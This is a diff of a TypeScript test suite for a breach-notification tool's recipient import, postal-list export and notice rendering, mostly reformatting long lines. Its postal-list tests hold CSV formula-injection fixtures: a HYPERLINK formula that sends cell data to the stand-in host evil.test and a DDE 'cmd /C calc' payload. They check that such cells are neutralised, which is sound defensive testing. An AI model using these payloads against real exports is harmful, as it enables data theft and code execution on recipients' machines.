@@ -64,7 +64,12 @@ describe('recipient import', () => {
       [3, 'email'],
     ]);
     expect(first.errors[0]!.reason).not.toContain('Dana'); // the line is named, its data is not repeated
-    const again = await importRecipients(store, 'breach-jsonl', Readable.from([JSON.stringify({ id: 'q9', name: 'Ann again', email: 'ANN@example.test', dataCategories: ['phone'] })]), 'jsonl');
+    const again = await importRecipients(
+      store,
+      'breach-jsonl',
+      Readable.from([JSON.stringify({ id: 'q9', name: 'Ann again', email: 'ANN@example.test', dataCategories: ['phone'] })]),
+      'jsonl',
+    );
     expect(again).toMatchObject({ imported: 0, merged: 1 });
   });
 
@@ -93,7 +98,11 @@ describe('imports that lose nothing', () => {
     expect(report.errors).toEqual([{ line: 1202, reason: 'name: control character U+0000 at offset 3 is not allowed' }]);
     expect(await countOf('breach-nul')).toBe(1499);
 
-    const jsonl = [JSON.stringify({ id: 'j1', name: 'Ann', email: 'ann@example.test' }), JSON.stringify({ id: 'j2', name: 'Bo', postalAddress: '1 Main St\u0000' }), JSON.stringify({ id: 'j3', name: 'Cy\u202Eab', email: 'cy@example.test' })].join('\n');
+    const jsonl = [
+      JSON.stringify({ id: 'j1', name: 'Ann', email: 'ann@example.test' }),
+      JSON.stringify({ id: 'j2', name: 'Bo', postalAddress: '1 Main St\u0000' }),
+      JSON.stringify({ id: 'j3', name: 'Cy\u202Eab', email: 'cy@example.test' }),
+    ].join('\n');
     const fromJsonl = await importRecipients(store, 'breach-nul-jsonl', Readable.from([jsonl]), 'jsonl');
     expect(fromJsonl).toMatchObject({ rows: 3, imported: 1, invalid: 2 });
     expect(fromJsonl.errors.map((e) => [e.line, e.reason])).toEqual([
@@ -103,7 +112,12 @@ describe('imports that lose nothing', () => {
   });
 
   it('refuses a CSV whose quote never closes, naming the line it opens on, and keeps nothing of it', async () => {
-    const error = await importRecipients(store, 'breach-quote', Readable.from([people(100, { 10: 'p10,"Person 10,p10@example.test,,en,name\n' })]), 'csv').catch((e) => e);
+    const error = await importRecipients(
+      store,
+      'breach-quote',
+      Readable.from([people(100, { 10: 'p10,"Person 10,p10@example.test,,en,name\n' })]),
+      'csv',
+    ).catch((e) => e);
     expect(error).toBeInstanceOf(InvalidInput);
     expect((error as InvalidInput).errors).toEqual([{ field: 'line 12', message: expect.stringMatching(/quote.*never closed/) }]);
     expect(await countOf('breach-quote')).toBe(0);
@@ -118,7 +132,11 @@ describe('imports that lose nothing', () => {
   });
 
   it('reports a row by the line it starts on, even one that spans lines, and takes a quote inside a bare cell as written', async () => {
-    const text = people(6, { 1: 'p1,"Two\nLines",p1@example.test,,en,name\n', 2: 'p2,Too,many,fields,en,name,extra\n', 3: 'p3,Dwayne "The Rock" J,p3@example.test,,en,name\n' });
+    const text = people(6, {
+      1: 'p1,"Two\nLines",p1@example.test,,en,name\n',
+      2: 'p2,Too,many,fields,en,name,extra\n',
+      3: 'p3,Dwayne "The Rock" J,p3@example.test,,en,name\n',
+    });
     const report = await importRecipients(store, 'breach-span', Readable.from([text]), 'csv');
     expect(report).toMatchObject({ rows: 6, imported: 4, invalid: 2 });
     expect(report.errors).toEqual([
@@ -130,21 +148,31 @@ describe('imports that lose nothing', () => {
   });
 
   it('accounts for every row it reads, whatever the cells hold: imported, merged or reported', async () => {
-    const cell = fc.oneof(fc.string({ maxLength: 12 }), fc.string({ unit: 'binary', maxLength: 12 }), fc.constantFrom('\u0000', '=1+1', '"', '\r\n', 'x\u202Ey'));
+    const cell = fc.oneof(
+      fc.string({ maxLength: 12 }),
+      fc.string({ unit: 'binary', maxLength: 12 }),
+      fc.constantFrom('\u0000', '=1+1', '"', '\r\n', 'x\u202Ey'),
+    );
     let run = 0;
     await fc.assert(
-      fc.asyncProperty(fc.array(fc.tuple(fc.integer({ min: 0, max: 20 }), cell, fc.option(cell), fc.boolean()), { minLength: 1, maxLength: 30 }), async (rows) => {
-        const breachId = `breach-prop-${run++}`;
-        const csv = stringify(rows.map(([id, name, address, email]) => [`p${id}`, name, email ? `p${id}@example.test` : '', address ?? '', 'en', 'name']), {
-          header: true,
-          columns: ['id', 'name', 'email', 'postal_address', 'locale', 'data_categories'],
-        });
-        const report = await importRecipients(store, breachId, Readable.from([csv]), 'csv');
-        expect(report.rows).toBe(rows.length);
-        expect(report.imported + report.merged + report.invalid).toBe(rows.length);
-        expect(report.errors).toHaveLength(report.invalid);
-        expect(await countOf(breachId)).toBe(report.imported);
-      }),
+      fc.asyncProperty(
+        fc.array(fc.tuple(fc.integer({ min: 0, max: 20 }), cell, fc.option(cell), fc.boolean()), { minLength: 1, maxLength: 30 }),
+        async (rows) => {
+          const breachId = `breach-prop-${run++}`;
+          const csv = stringify(
+            rows.map(([id, name, address, email]) => [`p${id}`, name, email ? `p${id}@example.test` : '', address ?? '', 'en', 'name']),
+            {
+              header: true,
+              columns: ['id', 'name', 'email', 'postal_address', 'locale', 'data_categories'],
+            },
+          );
+          const report = await importRecipients(store, breachId, Readable.from([csv]), 'csv');
+          expect(report.rows).toBe(rows.length);
+          expect(report.imported + report.merged + report.invalid).toBe(rows.length);
+          expect(report.errors).toHaveLength(report.invalid);
+          expect(await countOf(breachId)).toBe(report.imported);
+        },
+      ),
       { numRuns: 60 },
     );
   });
@@ -153,11 +181,14 @@ describe('imports that lose nothing', () => {
 describe('the postal list', () => {
   const hostile = {
     name: '=HYPERLINK("http://evil.test/?"&A1,"Click")',
-    postalAddress: '+81 3 @SUM(1+1)*cmd|\' /C calc\'!A0',
+    postalAddress: "+81 3 @SUM(1+1)*cmd|' /C calc'!A0",
   };
 
   it('neutralises cells a spreadsheet would run as formulas, and keeps them otherwise intact', async () => {
-    const jsonl = [JSON.stringify({ id: '-2+3', ...hostile, locale: 'en' }), JSON.stringify({ id: 'plain', name: 'Plain Person', postalAddress: '1 Main St', locale: 'en' })].join('\n');
+    const jsonl = [
+      JSON.stringify({ id: '-2+3', ...hostile, locale: 'en' }),
+      JSON.stringify({ id: 'plain', name: 'Plain Person', postalAddress: '1 Main St', locale: 'en' }),
+    ].join('\n');
     expect((await importRecipients(store, 'breach-formula', Readable.from([jsonl]), 'jsonl')).imported).toBe(2);
     await store.recipients.planDeliveries('campaign-formula', 'breach-formula', 10);
     const csv = postalListCsv(await store.recipients.postalList('breach-formula'));
@@ -165,7 +196,15 @@ describe('the postal list', () => {
     expect(cells[0]).toMatchObject({ person_id: "'-2+3", name: `'${hostile.name}`, postal_address: `'${hostile.postalAddress}` });
     expect(cells[1]).toMatchObject({ person_id: 'plain', name: 'Plain Person', postal_address: '1 Main St' });
 
-    const bounced: PostalRow = { campaign_id: 'c', person_id: 'b', name: '@evil', postal_address: '\t=cmd', locale: 'en', reason: 'bounced', smtp_response: '\r=1+1' };
+    const bounced: PostalRow = {
+      campaign_id: 'c',
+      person_id: 'b',
+      name: '@evil',
+      postal_address: '\t=cmd',
+      locale: 'en',
+      reason: 'bounced',
+      smtp_response: '\r=1+1',
+    };
     const [row] = parseCsv<Record<string, string>>(postalListCsv([bounced]), { columns: true });
     expect(row).toMatchObject({ name: "'@evil", postal_address: "'\t=cmd", smtp_response: "'\r=1+1" });
   });
@@ -205,7 +244,16 @@ describe('notices', () => {
   it('renders the Japanese and English notices with every item the guidance asks for', () => {
     const ja = renderNotice(notice, { name: '山田 花子', locale: 'ja', dataCategories: ['name', 'payment_card'] });
     expect(ja.subject).toBe('【重要】Example Shop K.K.からの個人情報漏えいに関するお詫びとお知らせ');
-    for (const part of ['山田 花子 様', 'お詫び', 'クレジットカード情報', 'reported to the PPC', 'Check your card', 'Incident desk', '0120-000-000', 'weekdays 9:00-18:00 JST']) {
+    for (const part of [
+      '山田 花子 様',
+      'お詫び',
+      'クレジットカード情報',
+      'reported to the PPC',
+      'Check your card',
+      'Incident desk',
+      '0120-000-000',
+      'weekdays 9:00-18:00 JST',
+    ]) {
       expect(ja.text).toContain(part);
     }
     const en = renderNotice(notice, { name: 'John <script>', locale: 'en', dataCategories: ['credentials'] });
@@ -216,11 +264,23 @@ describe('notices', () => {
 
   it('renders many people exactly as one at a time does, whatever their names', () => {
     fc.assert(
-      fc.property(fc.string({ maxLength: 40 }), fc.constantFrom('ja' as const, 'en' as const), fc.subarray(['name', 'email', 'health', 'payment_card'] as const), (name, locale, categories) => {
-        const person = { name, locale, dataCategories: [...categories] };
-        const renderer = new NoticeRenderer({ ...notice, companyName: 'Shop {{person.name}} & <Co>' }, { en: { subject: 'For {{person.name}}', text: '{{person.name}}: {{incident}}', html: '<b>{{person.name}}</b>' } });
-        expect(renderer.render(person)).toEqual(renderNotice({ ...notice, companyName: 'Shop {{person.name}} & <Co>' }, person, { en: { subject: 'For {{person.name}}', text: '{{person.name}}: {{incident}}', html: '<b>{{person.name}}</b>' } }));
-      }),
+      fc.property(
+        fc.string({ maxLength: 40 }),
+        fc.constantFrom('ja' as const, 'en' as const),
+        fc.subarray(['name', 'email', 'health', 'payment_card'] as const),
+        (name, locale, categories) => {
+          const person = { name, locale, dataCategories: [...categories] };
+          const renderer = new NoticeRenderer(
+            { ...notice, companyName: 'Shop {{person.name}} & <Co>' },
+            { en: { subject: 'For {{person.name}}', text: '{{person.name}}: {{incident}}', html: '<b>{{person.name}}</b>' } },
+          );
+          expect(renderer.render(person)).toEqual(
+            renderNotice({ ...notice, companyName: 'Shop {{person.name}} & <Co>' }, person, {
+              en: { subject: 'For {{person.name}}', text: '{{person.name}}: {{incident}}', html: '<b>{{person.name}}</b>' },
+            }),
+          );
+        },
+      ),
       { numRuns: 300 },
     );
   });
